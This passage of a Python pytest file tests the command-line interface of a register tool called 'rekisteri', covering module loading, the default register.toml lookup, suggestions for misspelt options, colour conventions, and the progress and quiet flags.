        assert loaded == [], (argv, loaded)


@pytest.mark.parametrize("command", ["validate", "lint"])
@pytest.mark.parametrize("example", ["terhi-kallio", "kampaamo-helmi"])
def test_validate_and_lint_load_none_of_the_heavy_modules(
    command: str, example: str, tmp_path: Path
) -> None:
    """Issue 17: not even Babel, once the catalogs they speak in are compiled (the first run
    compiles them into the cache; the second is the one a person waits for)."""
    register = str(ROOT / "examples" / example / "register.toml")
    # The commands themselves, not a remembered answer (tests/cli/test_memo.py).
    env = {"XDG_CACHE_HOME": str(tmp_path), "REKISTERI_NO_CACHE": "1"}
    said, _ = _run_cli([command, register], env)
    assert "register.toml" in said
    again, loaded = _run_cli([command, register], env)
    assert again == said
    assert loaded == [], loaded
    assert list((tmp_path / "rekisteri" / "catalogs").glob("*.mo"))


def test_a_command_given_no_register_reads_register_toml_here(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    example = ROOT / "examples" / "kampaamo-helmi" / "register.toml"
    monkeypatch.chdir(tmp_path)
    missing = runner.invoke(app, ["validate"], env={"REKISTERI_REGISTER": ""})
    assert missing.exit_code == 2
    assert "no register given, and there is no register.toml in this folder" in missing.output
    (tmp_path / "register.toml").write_text(example.read_text(encoding="utf-8"), "utf-8")
    for argv in (["validate"], ["lint"], ["export", "--format", "json"]):
        result = runner.invoke(app, argv, env={"REKISTERI_REGISTER": ""})
        assert result.exit_code == 0, (argv, result.output)
    assert "register.toml: kelvollinen rekisteri" in runner.invoke(app, ["validate"]).output
    # $REKISTERI_REGISTER names another file, as an explicit argument would.
    (tmp_path / "register.toml").unlink()
    result = runner.invoke(app, ["validate"], env={"REKISTERI_REGISTER": str(example)})
    assert result.exit_code == 0 and f"{example}: kelvollinen rekisteri" in result.output


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (
            ["validate", "--format", "jsn", "x.toml"],
            "'jsn' is not one of 'text', 'json'; did you mean 'json'?",
        ),
        (["marketing", "x.toml", "--channel", "emial"], "did you mean 'email'?"),
        (["access", "x.toml", "--id", "1", "-o", "o", "--format", "htm"], "did you mean 'html'?"),
    ],
)
def test_a_misspelt_option_value_gets_the_nearest_and_no_pydantic_text(
    argv: list[str], said: str
) -> None:
    result = runner.invoke(app, argv)
    assert result.exit_code == 2
    assert said in result.output
    assert "Value error" not in result.output and "pydantic" not in result.output


@pytest.mark.parametrize(
    ("env", "tty", "coloured"),
    [
        ({}, True, True),
        ({"NO_COLOR": "1"}, True, False),
        ({"TERM": "dumb"}, True, False),
        ({}, False, False),
        ({"FORCE_COLOR": "1"}, False, True),
    ],
    ids=["terminal", "NO_COLOR", "TERM=dumb", "pipe", "FORCE_COLOR"],
)
def test_colour_follows_rich_and_the_conventions(
    monkeypatch: pytest.MonkeyPatch, env: dict[str, str], tty: bool, coloured: bool
) -> None:
    import io
    import sys

    from rekisteri.cli.terminal import colour_wanted

    for name in ("NO_COLOR", "FORCE_COLOR", "TERM"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    for name, value in env.items():
        monkeypatch.setenv(name, value)

    class Stream(io.StringIO):
        def isatty(self) -> bool:
            return tty

    monkeypatch.setattr(sys, "stdout", Stream())
    assert colour_wanted() is coloured


def test_no_progress_draws_no_bar(demo_path: Path, tmp_path: Path) -> None:
    argv = ["access", str(demo_path), "--all", "--format", "json", "--release", "health"]
    drawn = runner.invoke(app, [*argv, "-o", str(tmp_path / "a")])
    assert drawn.exit_code == 0, drawn.output
    # The bar is labelled in the register's language, as the status lines are.
    assert "paketit" in drawn.stderr and "access bundles" not in drawn.stderr
    english = runner.invoke(app, [*argv, "-o", str(tmp_path / "en"), "--lang", "en"])
    assert "access bundles" in english.stderr
    quiet = runner.invoke(app, [*argv, "-o", str(tmp_path / "b"), "--no-progress"])
    assert quiet.exit_code == 0, quiet.output
    assert "paketit" not in quiet.stderr
    assert sorted(p.name for p in (tmp_path / "b").iterdir()) == sorted(
        p.name for p in (tmp_path / "a").iterdir()
    )


def test_quiet_draws_no_bar_and_says_nothing_of_the_work(demo_path: Path, tmp_path: Path) -> None:
    argv = ["access", str(demo_path), "--all", "--format", "json", "--release", "health"]
    told = runner.invoke(app, [*argv, "-o", str(tmp_path / "a")])
    assert told.exit_code == 0, told.output
    assert told.stdout.strip()
    quiet = runner.invoke(app, [*argv, "-o", str(tmp_path / "b"), "-q"])
    assert quiet.exit_code == 0, quiet.output
    assert quiet.stdout == ""
    assert "paketit" not in quiet.stderr
    assert sorted(p.name for p in (tmp_path / "b").iterdir()) == sorted(
        p.name for p in (tmp_path / "a").iterdir()
    )


@pytest.mark.parametrize("where", ["root", "command"])
def test_quiet_keeps_errors_and_the_data_asked_for(where: str, tmp_path: Path) -> None:
    """-q (on the root or on the command) silences what a command did, never why it failed
    nor the output a person asked for (issue 16)."""

    def run(*argv: str) -> Any:
        args = ["-q", *argv] if where == "root" else [argv[0], "-q", *argv[1:]]
        return runner.invoke(app, args)

    valid = run("validate", str(MODERN_EXAMPLE))
    assert (valid.exit_code, valid.stdout) == (0, "")
    written = run("render", str(MODERN_EXAMPLE), "-o", str(tmp_path / "out"), "--format", "html")
    assert (written.exit_code, written.stdout) == (0, "")
    assert sorted(p.suffix for p in (tmp_path / "out").iterdir()) == [".html", ".html"]
    misspelt = tmp_path / "register.toml"
    misspelt.write_text(
        MODERN_EXAMPLE.read_text(encoding="utf-8").replace('"contract"', '"contrct"', 1),
        encoding="utf-8",
    )
    broken = run("validate", str(misspelt))
    assert broken.exit_code == 1
    assert "contrct" in broken.stderr
    exported = run("export", str(MODERN_EXAMPLE))
    assert exported.exit_code == 0
    assert json.loads(exported.stdout)["@context"]
    # The same invocation again without -q speaks: the flag lived in that invocation only.
    assert runner.invoke(app, ["validate", str(MODERN_EXAMPLE)]).stdout.strip()


@pytest.mark.parametrize(
    "argv, command",
    [item for item in COMMANDS if not getattr(item[1], "commands", None)],
    ids=[" ".join(argv) for argv, c in COMMANDS if not getattr(c, "commands", None)],
)
def test_every_command_takes_quiet(argv: list[str], command: Any) -> None:
    assert any(
        "-q" in getattr(param, "opts", []) and "--quiet" in param.opts for param in command.params
    ), argv
